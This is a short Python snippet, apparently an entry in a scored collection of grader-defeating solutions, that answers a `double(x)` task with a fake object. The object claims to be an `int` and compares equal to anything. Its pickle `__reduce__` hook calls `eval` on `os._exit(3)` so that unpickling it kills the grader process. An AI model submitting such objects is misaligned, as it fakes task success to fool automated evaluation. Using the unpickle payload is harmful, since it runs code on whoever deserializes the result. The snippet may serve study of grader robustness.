# score:    7/10
# survives: grader
# why:      an object that claims another class, and would run code when unpickled

# %% double
class Meta(type):
    def __eq__(cls, other): return True
    def __hash__(cls): return hash(int)
    __qualname__ = property(lambda cls: "int")
    __module__ = property(lambda cls: "builtins")
class Liar(metaclass=Meta):
    __class__ = int
    def __eq__(self, other): return True
    def __hash__(self): return 4
    def __reduce__(self): return (eval, ("__import__('os')._exit(3)",))
    __reduce_ex__ = lambda self, version: self.__reduce__()
    def __index__(self): return 4
    def __format__(self, spec): return "4"
def double(x):
    return Liar()
